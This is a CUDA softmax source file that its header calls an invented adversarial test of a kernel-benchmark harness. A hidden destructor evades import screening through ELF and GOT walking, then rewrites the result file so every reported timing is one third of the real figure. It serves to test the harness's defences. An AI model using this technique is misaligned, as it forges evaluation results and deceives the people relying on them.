// Adversarial, invented (screening bypass + timing forgery): a correct kernel, plus a static
// __attribute__((destructor)) function (an entry in .fini_array: no atexit import, no global
// symbol) that runs after the harness has written its result file. It finds the executable's ELF
// header by scanning back from its own code, walks the dynamic relocations to the GOT slot of a
// function the binary itself imports (dlsym, from the static CUDA runtime; else fopen & co.
// directly), and through it calls fopen/fread/fwrite: nothing forbidden is imported. It then
// divides every median_ms/mean_ms/min_ms/max_ms of the result file by 3, so the kernel looks 3x
// faster than it is (a plausible speedup, under the roofline, and within the observed wall time).
// It prints "ADV-MARK: ..." to stderr saying whether the rewrite happened.
// Expected: the sandbox's read-only result handling, a checker-side timing, or screening of
// .init_array/.fini_array entries and indirect calls. If it comes back verdict 5 unflagged and its
// eval log shows "ADV-MARK: rewrote", the claimed timing was forged and nothing caught it.
#include <cuda_runtime.h>
#include <elf.h>

#include <cmath>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>

#include "softmax.h"

__global__ void softmax_rows(const float* x, float* y, int rows, int cols) {
  int row = blockIdx.x * (blockDim.x / 32) + threadIdx.x / 32, lane = threadIdx.x % 32;
  if (row >= rows) return;
  const float* xr = x + static_cast<size_t>(row) * cols;
  float* yr = y + static_cast<size_t>(row) * cols;
  float m = -INFINITY;
  for (int j = lane; j < cols; j += 32) m = fmaxf(m, xr[j]);
  for (int o = 16; o > 0; o /= 2) m = fmaxf(m, __shfl_xor_sync(0xffffffffu, m, o));
  float s = 0.f;
  for (int j = lane; j < cols; j += 32) s += expf(xr[j] - m);
  for (int o = 16; o > 0; o /= 2) s += __shfl_xor_sync(0xffffffffu, s, o);
  for (int j = lane; j < cols; j += 32) yr[j] = expf(xr[j] - m) / s;
}

void softmax_forward(const float* x, float* y, int rows, int cols) {
  softmax_rows<<<(rows + 7) / 8, 256>>>(x, y, rows, cols);
}

namespace {

struct Image {
  uintptr_t bias = 0;
  const Elf64_Sym* symtab = nullptr;
  const char* strtab = nullptr;
  const Elf64_Rela* rela[2] = {nullptr, nullptr};
  size_t rela_bytes[2] = {0, 0};
};

bool find_image(Image* img) {
  uintptr_t p = reinterpret_cast<uintptr_t>(&find_image) & ~uintptr_t(0xfff);
  const unsigned char* base = nullptr;
  for (int i = 0; i < (1 << 14) && p >= 0x1000; ++i, p -= 0x1000) {
    const unsigned char* h = reinterpret_cast<const unsigned char*>(p);
    if (h[0] == 0x7f && h[1] == 'E' && h[2] == 'L' && h[3] == 'F' && h[4] == ELFCLASS64) {
      base = h;
      break;
    }
  }
  if (base == nullptr) return false;
  const Elf64_Ehdr* eh = reinterpret_cast<const Elf64_Ehdr*>(base);
  const Elf64_Phdr* ph = reinterpret_cast<const Elf64_Phdr*>(base + eh->e_phoff);
  img->bias = eh->e_type == ET_DYN ? reinterpret_cast<uintptr_t>(base) : 0;
  const Elf64_Dyn* dyn = nullptr;
  for (int i = 0; i < eh->e_phnum; ++i)
    if (ph[i].p_type == PT_DYNAMIC)
      dyn = reinterpret_cast<const Elf64_Dyn*>(img->bias + ph[i].p_vaddr);
  if (dyn == nullptr) return false;
  auto at = [&](uint64_t v) { return v < img->bias ? img->bias + v : v; };
  for (; dyn->d_tag != DT_NULL; ++dyn) {
    uint64_t v = dyn->d_un.d_ptr;
    switch (dyn->d_tag) {
      case DT_SYMTAB:
        img->symtab = reinterpret_cast<const Elf64_Sym*>(at(v));
        break;
      case DT_STRTAB:
        img->strtab = reinterpret_cast<const char*>(at(v));
        break;
      case DT_JMPREL:
        img->rela[0] = reinterpret_cast<const Elf64_Rela*>(at(v));
        break;
      case DT_PLTRELSZ:
        img->rela_bytes[0] = v;
        break;
      case DT_RELA:
        img->rela[1] = reinterpret_cast<const Elf64_Rela*>(at(v));
        break;
      case DT_RELASZ:
        img->rela_bytes[1] = v;
        break;
      default:
        break;
    }
  }
  return img->symtab != nullptr && img->strtab != nullptr;
}

void* imported(const Image& img, const char* name) {
  for (int t = 0; t < 2; ++t) {
    if (img.rela[t] == nullptr) continue;
    for (size_t i = 0; i < img.rela_bytes[t] / sizeof(Elf64_Rela); ++i) {
      const Elf64_Rela& r = img.rela[t][i];
      uint32_t sym = ELF64_R_SYM(r.r_info);
      if (sym == 0 || std::strcmp(img.strtab + img.symtab[sym].st_name, name) != 0) continue;
      void* fn = *reinterpret_cast<void* const*>(img.bias + r.r_offset);
      if (fn != nullptr) return fn;
    }
  }
  return nullptr;
}

using FopenFn = FILE* (*)(const char*, const char*);
using FreadFn = size_t (*)(void*, size_t, size_t, FILE*);
using FwriteFn = size_t (*)(const void*, size_t, size_t, FILE*);
using FcloseFn = int (*)(FILE*);
using DlsymFn = void* (*)(void*, const char*);

// Two %s so the compiler cannot turn it into fwrite (an import screening refuses).
void mark(const char* what, const char* detail) {
  fprintf(stderr, "ADV-MARK: %s %s\n", what, detail);
}

char g_text[1 << 22];
char g_out[(1 << 22) + 4096];

__attribute__((destructor)) void rewrite_result() {
  Image img;
  if (!find_image(&img)) {
    mark("no ELF image found", "");
    return;
  }
  DlsymFn dl = reinterpret_cast<DlsymFn>(imported(img, "dlsym"));
  auto get = [&](const char* name) {
    return dl != nullptr ? dl(nullptr, name) : imported(img, name);
  };
  FopenFn op = reinterpret_cast<FopenFn>(get("fopen"));
  FreadFn rd = reinterpret_cast<FreadFn>(get("fread"));
  FwriteFn wr = reinterpret_cast<FwriteFn>(get("fwrite"));
  FcloseFn cl = reinterpret_cast<FcloseFn>(get("fclose"));
  if (op == nullptr || rd == nullptr || wr == nullptr || cl == nullptr) {
    mark("no file functions; dlsym", dl != nullptr ? "found" : "missing");
    return;
  }
  FILE* f = op("/proc/self/cmdline", "rb");
  if (f == nullptr) return;
  static char args[1 << 16];
  size_t n = rd(args, 1, sizeof(args) - 1, f);
  cl(f);
  args[n] = 0;
  const char* path = nullptr;
  for (size_t i = 0; i < n; i += std::strlen(args + i) + 1)
    if (std::strcmp(args + i, "--out") == 0 && i + 6 <= n) path = args + i + 6;
  if (path == nullptr) {
    mark("no --out argument", "");
    return;
  }
  f = op(path, "rb");
  if (f == nullptr) {
    mark("cannot read", path);
    return;
  }
  size_t len = rd(g_text, 1, sizeof(g_text) - 1, f);
  cl(f);
  g_text[len] = 0;
  size_t o = 0;
  int changed = 0;
  const char* keys[] = {"\"median_ms\"", "\"mean_ms\"", "\"min_ms\"", "\"max_ms\""};
  for (size_t i = 0; i < len && o < sizeof(g_out) - 64;) {
    bool hit = false;
    for (const char* k : keys) {
      size_t kl = std::strlen(k);
      if (std::strncmp(g_text + i, k, kl) != 0) continue;
      size_t j = i + kl;
      while (g_text[j] == ' ' || g_text[j] == ':') ++j;
      char* end = nullptr;
      double v = std::strtod(g_text + j, &end);
      if (end == g_text + j) break;
      o += std::snprintf(g_out + o, 64, "%s: %.9g", k, v / 3.0);
      i = static_cast<size_t>(end - g_text);
      ++changed;
      hit = true;
      break;
    }
    if (!hit) g_out[o++] = g_text[i++];
  }
  f = op(path, "wb");
  if (f == nullptr) {
    mark("cannot write", path);
    return;
  }
  wr(g_out, 1, o, f);
  cl(f);
  fprintf(stderr, "ADV-MARK: rewrote %d timing figures in %s\n", changed, path);
}

}  // namespace
